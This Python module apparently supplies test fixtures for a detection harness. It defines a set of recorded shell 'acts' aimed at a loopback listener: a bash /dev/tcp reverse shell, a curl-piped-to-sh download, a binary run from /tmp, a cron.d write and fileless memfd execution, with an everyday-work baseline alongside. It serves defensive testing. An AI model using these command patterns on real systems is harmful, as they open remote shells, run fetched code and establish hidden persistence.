# SPDX-License-Identifier: Apache-2.0
"""The acts that were recorded: each a shell of its own in `/`, on loopback and with files of its own.

`{port}` is that of a listener on 127.0.0.1 which the recorder holds; it answers as the act says and hangs up.
"""

from __future__ import annotations

from typing import NamedTuple


class Act(NamedTuple):
    """`answer`: what the listener sends to whoever connects; None: there is none."""

    script: str
    answer: bytes | None = None


HTTP = b"HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\ntrue\n"

ACTS: dict[str, Act] = {
    "reverse_shell": Act("bash -i >/dev/tcp/127.0.0.1/{port} 0>&1 2>&1", b"id\nexit\n"),
    "download_to_shell": Act("curl -s http://127.0.0.1:{port}/install | sh", HTTP),
    "program_from_tmp": Act(
        "cp /usr/bin/true /tmp/iw-capture-tool; /tmp/iw-capture-tool hello; rm /tmp/iw-capture-tool"
    ),
    "scheduled_task": Act(
        "mkdir -p /etc/cron.d; echo '# nothing' >>/etc/cron.d/iw-capture; rm /etc/cron.d/iw-capture"
    ),
    "program_from_memory": Act(
        '/usr/bin/python3 -c \'import os; f = os.memfd_create("x"); '
        'os.write(f, open("/usr/bin/true", "rb").read()); os.execv(f"/proc/self/fd/{{f}}", ["x"])\''
    ),
    "everyday_work": Act(
        "ls -l /usr/bin >/dev/null; dpkg-query -W bash >/dev/null; mkdir /tmp/iw-capture-work; "
        "tar -czf /tmp/iw-capture-work/etc.tar.gz /etc/hostname 2>/dev/null; date; id; "
        "find /etc -name '*.conf' >/dev/null 2>&1; sort /etc/services | uniq -c >/dev/null; "
        "rm -r /tmp/iw-capture-work"
    ),
}
